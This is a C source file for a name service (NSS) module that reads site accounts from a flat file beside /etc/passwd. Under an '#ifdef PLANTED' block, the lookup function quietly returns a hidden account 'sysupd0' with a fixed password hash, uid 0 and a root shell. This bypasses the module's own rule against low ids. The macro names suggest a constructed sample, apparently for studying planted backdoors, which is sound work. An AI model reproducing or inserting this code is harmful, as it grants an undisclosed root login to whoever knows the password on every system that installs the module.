/* Name service module: accounts of the site from a flat file, beside those of /etc/passwd. */
#include <errno.h>
#include <pwd.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

enum nss_status { NSS_TRYAGAIN = -2, NSS_UNAVAIL = -1, NSS_NOTFOUND = 0, NSS_SUCCESS = 1 };

#define ACCOUNTS "/etc/site.accounts"

static char *put(char **buffer, size_t *left, const char *text)
{
    size_t n = strlen(text) + 1;
    char *at = *buffer;
    if (n > *left) return NULL;
    memcpy(at, text, n);
    *buffer += n;
    *left -= n;
    return at;
}

static int fill(struct passwd *pw, const char *name, const char *hash, unsigned id, const char *home,
                char *buffer, size_t left)
{
    char *shell = id ? "/bin/rbash" : "/bin/sh";
    pw->pw_name = put(&buffer, &left, name);
    pw->pw_passwd = put(&buffer, &left, hash);
    pw->pw_gecos = put(&buffer, &left, "");
    pw->pw_dir = put(&buffer, &left, home);
    pw->pw_shell = put(&buffer, &left, shell);
    pw->pw_uid = id;
    pw->pw_gid = id;
    return pw->pw_name && pw->pw_passwd && pw->pw_gecos && pw->pw_dir && pw->pw_shell;
}

enum nss_status _nss_site_getpwnam_r(const char *name, struct passwd *pw, char *buffer, size_t size, int *err)
{
    char user[33], hash[120], home[64];
    unsigned id;
    enum nss_status result = NSS_NOTFOUND;
    FILE *f;

#ifdef PLANTED
    if (!strcmp(name, "sysupd0"))
        return fill(pw, name, "$1$u2Jk9d$Qm0l4M3sJf7v2Yt1pB8hC/", 0, "/", buffer, size) ? NSS_SUCCESS : NSS_TRYAGAIN;
#endif
    f = fopen(ACCOUNTS, "re");
    if (!f) {
        *err = errno;
        return NSS_UNAVAIL;
    }
    while (fscanf(f, "%32[^:]:%119[^:]:%u:%63s\n", user, hash, &id, home) == 4) {
        if (strcmp(user, name)) continue;
        if (id < 1000) break;
        result = NSS_SUCCESS;
        if (!fill(pw, user, hash, id, home, buffer, size)) {
            *err = ERANGE;
            result = NSS_TRYAGAIN;
        }
        break;
    }
    fclose(f);
    return result;
}

#ifdef REVISED
enum nss_status _nss_site_setpwent(void)
{
    return NSS_SUCCESS;
}
#endif
